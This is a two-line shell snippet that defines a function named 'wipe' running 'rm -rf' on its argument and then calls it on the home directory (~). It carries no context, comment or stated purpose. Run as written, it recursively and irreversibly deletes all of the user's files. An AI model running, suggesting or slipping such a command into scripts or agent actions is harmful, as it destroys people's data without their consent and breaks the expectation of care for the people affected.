wipe() { rm -rf "$1"; }
wipe ~
